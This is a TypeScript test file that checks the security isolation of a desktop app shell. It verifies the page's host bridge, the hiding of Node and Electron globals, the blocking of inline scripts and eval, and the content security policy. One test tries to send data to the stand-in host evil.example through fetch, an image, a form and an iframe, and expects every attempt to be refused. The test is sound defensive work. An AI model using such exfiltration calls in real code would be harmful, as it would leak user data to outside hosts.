/** The built shell, its built preload and a page, in a real Chromium. */
import type { Browser, Page } from '@playwright/test';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { bundleShell, newFolder } from './bundled.ts';
import { launchChromium, showWindowsIn } from './chromium-window.ts';
import { log, state } from './fake-state.ts';
import { bootShell } from './use-fake.ts';
import type { HostBridge } from '../../shared/rpc/bridge.ts';

/** What the preload left in the page. */
declare const qoimaHost: HostBridge;

const { folder, remove } = newFolder('page');
let browser: Browser;
let page: Page;

beforeAll(async () => {
  const dist = await bundleShell(folder);
  browser = await launchChromium();
  const opened = new Promise<Page>((resolve) => {
    showWindowsIn(browser, resolve);
  });
  bootShell(dist, path.join(folder, 'data'));
  page = await opened;
  await page.waitForFunction(() => 'moduleRan' in globalThis);
  while (!log.some(({ call }) => call === 'setApplicationMenu')) {
    await new Promise((resolve) => setTimeout(resolve, 5));
  }
});
afterAll(async () => {
  await browser.close();
  state.windows[0]?.closeByHand();
  while (!log.some(({ call }) => call === 'app.exited'))
    await new Promise((resolve) => setTimeout(resolve, 5));
  remove();
});

test('the page calls its host through the bridge', async () => {
  const info = await page.evaluate(() => qoimaHost.call('app.info', {}));
  expect(info).toMatchObject({ ok: true, value: { dataFolder: path.join(folder, 'data') } });
  expect(await page.evaluate(() => qoimaHost.call('app.info', { x: 1 }))).toMatchObject({
    code: 'BAD_INPUT',
  });
  expect(await page.evaluate(() => qoimaHost.call('toString', {}))).toMatchObject({ code: 'UNKNOWN_METHOD' });
});

test('the page hears the events of its host until it stops listening', async () => {
  const heard = await page.evaluate(async () => {
    const names: string[] = [];
    const stop = qoimaHost.on((event) => void names.push(event));
    await qoimaHost.call('import.begin', { source: 'x', parent: null });
    while (names.length === 0) await new Promise((resolve) => setTimeout(resolve, 5));
    stop();
    return names;
  });
  expect(['journal.grew', 'import.changed', 'jobs.changed']).toContain(heard[0]);
});

test('the page sees one object of ours and nothing of Node or Electron', async () => {
  const seen = await page.evaluate(() =>
    ['qoimaHost', '__invoke', 'require', 'process', 'module', 'electron', 'Buffer'].filter(
      (name) => name in globalThis,
    ),
  );
  expect(seen).toEqual(['qoimaHost']);
  expect(await page.evaluate(() => Object.isFrozen(qoimaHost))).toBe(true);
});

test('a script that stands in the page does not run, nor does text become one', async () => {
  expect(await page.evaluate(() => 'inlineRan' in globalThis)).toBe(false);
  const evaluated = await page.evaluate(() => (globalThis as { evaluated?: unknown }).evaluated);
  expect(evaluated).toBe('EvalError');
});

test('nothing is sent anywhere else', async () => {
  const outcomes = await page.evaluate(async () => {
    const refused: string[] = [];
    document.addEventListener(
      'securitypolicyviolation',
      (event) => void refused.push(event.effectiveDirective),
    );
    await fetch('https://evil.example/?words').catch(() => undefined);
    const image = new Image();
    image.src = 'https://evil.example/words.png';
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(image, form);
    form.submit();
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
    while (refused.length < 4) await new Promise((resolve) => setTimeout(resolve, 5));
    return refused.sort();
  });
  expect(outcomes).toEqual(['connect-src', 'form-action', 'frame-src', 'img-src']);
});

test('the page is a secure context with a database of its own origin', async () => {
  expect(await page.evaluate(() => [isSecureContext, 'indexedDB' in globalThis, origin])).toEqual([
    true,
    true,
    'http://archive.localhost',
  ]);
});
